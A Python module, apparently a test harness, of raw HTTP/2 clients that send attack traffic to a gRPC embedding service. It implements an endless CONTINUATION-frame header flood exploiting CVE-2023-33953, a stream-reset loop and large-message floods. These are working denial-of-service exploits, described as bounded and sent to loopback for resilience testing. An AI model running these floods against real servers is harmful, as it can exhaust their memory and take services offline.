"""Raw HTTP/2 clients for attacks that no gRPC client can make: a header
block that never ends (HEADERS then endless CONTINUATION frames, the
vectors of CVE-2023-33953) and streams reset before their message arrives.

Frames are built with hyperframe and hpack (both come with the h2 package).
Everything goes to a loopback address, bounded in bytes and time.
"""
import contextlib
import socket
import struct
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE every peer accepts
CANCEL = 0x8
SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"


def _grpc_headers(path, authority):
    """The request headers of a gRPC call."""
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers")]


def _request_headers(path, authority):
    return Encoder().encode(_grpc_headers(path, authority))


def _literal(name, value):
    """An HPACK literal header field without indexing, new name
    (RFC 7541 6.2.2), for names and values shorter than 127 bytes."""
    assert len(name) < 127 and len(value) < 127
    return bytes([0x00, len(name)]) + name + bytes([len(value)]) + value


def _prefixed_int(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 5.1) with `first` in the bits above the
    prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def continuation_payload(mode):
    """One CONTINUATION frame's worth of header block for `mode`:
    "repeat": small complete fields ("a: 1" ...), which gRPC 1.51 checks
    against its metadata limit only per frame; "string": the body of one
    header value declared ~4 GiB long, which gRPC 1.51 buffers whole before
    checking its length."""
    if mode == "repeat":
        field = _literal(b"a", b"1")
        return field * (FRAME // len(field))
    if mode == "string":
        return b"x" * FRAME
    raise ValueError(mode)


def _preface(sock, acknowledge):
    """Sends the client preface and SETTINGS.  With `acknowledge`, reads
    until the server's SETTINGS arrive and acknowledges them, as a
    well-behaved client does.  Without, the server's SETTINGS are never
    acknowledged: gRPC 1.51 then applies no header-list limit at all (it
    enforces the limit it advertised only once the peer acknowledged it),
    the flood's vector."""
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    buffer = b""
    while acknowledge:
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("closed during the HTTP/2 handshake")
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            buffer = buffer[9 + length:]
            if kind == 0x4 and not flags & 0x1:  # the server's SETTINGS
                # Before any header block: inside one, a frame other than
                # CONTINUATION is a connection error.
                sock.sendall(SETTINGS_ACK)
                return


class _Drain(threading.Thread):
    """Reads and discards what the server sends, so that it never blocks
    on a full socket; notes when the connection is closed."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.closed = threading.Event()

    def run(self):
        try:
            while self.sock.recv(65536):
                pass
        except OSError:
            pass
        self.closed.set()


@contextlib.contextmanager
def _connection(host, port, acknowledge):
    """One HTTP/2 connection to host:port after the preface (see _preface),
    its replies drained by a _Drain; yields (socket, drain) and closes the
    connection when the block ends."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    _preface(sock, acknowledge)
    drain = _Drain(sock)
    drain.start()
    try:
        yield sock, drain
    finally:
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        sock.close()
        drain.join(timeout=10)


def continuation_flood(host, port, total_bytes, mode="repeat",
                       path="/temb.v1.EmbeddingService/Embed",
                       timeout=120.0, acknowledge=False):
    """Opens one connection and sends a HEADERS frame without END_HEADERS,
    then CONTINUATION frames (none with END_HEADERS) until `total_bytes`
    were sent, the peer closed the connection, or `timeout` passed.
    Returns the bytes of header block the peer accepted before it closed
    the connection (== total_bytes when it never did).  `acknowledge`:
    see _preface."""
    sent = 0
    with _connection(host, port, acknowledge) as (sock, drain):
        block = _request_headers(path, f"{host}:{port}")
        if mode == "string":
            # Literal without indexing, name "x-flood", value ~4 GiB long.
            block += (bytes([0x00, 7]) + b"x-flood" +
                      _prefixed_int((1 << 32) - 2, 7))
        head = HeadersFrame(1)
        head.data = block
        sock.sendall(head.serialize())  # no END_HEADERS, no END_STREAM
        frame = ContinuationFrame(1)
        frame.data = continuation_payload(mode)
        chunk = frame.serialize() * 64  # ~1 MiB per sendall
        per_chunk = len(frame.data) * 64
        sock.settimeout(5)
        deadline = time.monotonic() + timeout
        while sent < total_bytes and time.monotonic() < deadline:
            if drain.closed.is_set():
                break
            try:
                sock.sendall(chunk)
            except socket.timeout:
                continue  # the peer stopped reading; keep trying till timeout
            except OSError:
                break  # reset: the peer refused the header block
            sent += per_chunk
    return sent


def reset_before_message(host, port, calls,
                         path="/temb.v1.EmbeddingService/Embed"):
    """On one connection, opens `calls` streams whose request headers are
    complete but whose message never comes: each is reset (RST_STREAM
    CANCEL) right after its headers.  Returns when all were sent."""
    encoder = Encoder()
    headers = _grpc_headers(path, f"{host}:{port}")
    with _connection(host, port, acknowledge=True) as (sock, _):
        out = bytearray()
        for i in range(calls):
            stream_id = 1 + 2 * i
            frame = HeadersFrame(stream_id)
            frame.flags.add("END_HEADERS")
            frame.data = encoder.encode(headers)
            out += frame.serialize()
            out += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            if len(out) > 64 << 10:
                sock.sendall(bytes(out))
                out.clear()
        sock.sendall(bytes(out))
        time.sleep(0.5)  # let the server read everything before the close


def grpc_message(payload):
    """The gRPC length-prefixed framing of one uncompressed message."""
    return struct.pack(">BI", 0, len(payload)) + payload


__all__ = ["continuation_flood", "reset_before_message", "grpc_message",
           "DataFrame"]


def large_messages(host, port, streams, message_bytes, timeout=60.0,
                   path="/temb.v1.EmbeddingService/Embed"):
    """Opens `streams` calls on one connection, each declaring one gRPC
    message of `message_bytes` and sending its bytes (zeros) as fast as
    HTTP/2 flow control lets it, so that the client holds no more than a
    frame at a time.  Returns, once every call ended or `timeout` passed,
    {"status": [grpc-status per call or None], "sent": bytes sent,
    "reset": calls reset by the server, "closed": whether the server closed
    the connection}."""
    from h2.config import H2Configuration
    from h2.connection import H2Connection
    from h2.events import (ConnectionTerminated, StreamEnded, StreamReset,
                           TrailersReceived, ResponseReceived)
    from h2.exceptions import ProtocolError, StreamClosedError

    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = H2Connection(H2Configuration(client_side=True,
                                        header_encoding="utf-8"))
    conn.initiate_connection()
    ids = []
    for _ in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, _grpc_headers(path, f"{host}:{port}"))
        ids.append(stream_id)
    remaining = {i: message_bytes + 5 for i in ids}
    status = {i: None for i in ids}
    prefix = {i: struct.pack(">BI", 0, message_bytes) for i in ids}
    zeros = bytes(FRAME)
    sent = 0
    reset = 0
    closed = False
    done = set()
    deadline = time.monotonic() + timeout
    try:
        sock.sendall(conn.data_to_send())
        while len(done) < streams and time.monotonic() < deadline:
            progress = False
            for i in ids:
                while i not in done and remaining[i] > 0:
                    window = min(conn.local_flow_control_window(i),
                                 conn.max_outbound_frame_size, remaining[i])
                    if window <= 0:
                        break
                    data = ((prefix.pop(i) + zeros)[:window] if i in prefix
                            else zeros[:window])
                    try:
                        conn.send_data(i, data,
                                       end_stream=remaining[i] == len(data))
                    except (StreamClosedError, ProtocolError):
                        done.add(i)
                        break
                    remaining[i] -= len(data)
                    sent += len(data)
                    progress = True
            out = conn.data_to_send()
            try:
                if out:
                    sock.settimeout(10)
                    sock.sendall(out)
                # Wait for the server only when nothing could be sent.
                sock.settimeout(0.001 if progress else 0.2)
                data = sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                closed = True
                break
            if not data:
                closed = True
                break
            for event in conn.receive_data(data):
                if isinstance(event, (TrailersReceived, ResponseReceived)):
                    for name, value in event.headers:
                        if name == "grpc-status":
                            status[event.stream_id] = int(value)
                if isinstance(event, (StreamEnded, TrailersReceived)):
                    done.add(event.stream_id)
                elif isinstance(event, StreamReset):
                    reset += 1
                    done.add(event.stream_id)
                elif isinstance(event, ConnectionTerminated):
                    closed = True
                    done.update(ids)
    finally:
        sock.close()
    return {"status": [status[i] for i in ids], "sent": sent,
            "reset": reset, "closed": closed}
